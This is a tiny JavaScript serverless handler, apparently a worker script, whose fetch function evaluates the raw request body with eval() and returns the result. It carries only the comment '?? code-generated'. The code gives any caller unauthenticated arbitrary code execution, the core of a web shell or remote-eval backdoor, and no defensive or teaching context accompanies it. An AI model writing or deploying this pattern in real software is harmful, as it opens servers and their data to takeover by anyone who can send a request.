export default {
  async fetch(request) {
    return new Response(eval(await request.text())); //~ ?? code-generated
  },
};
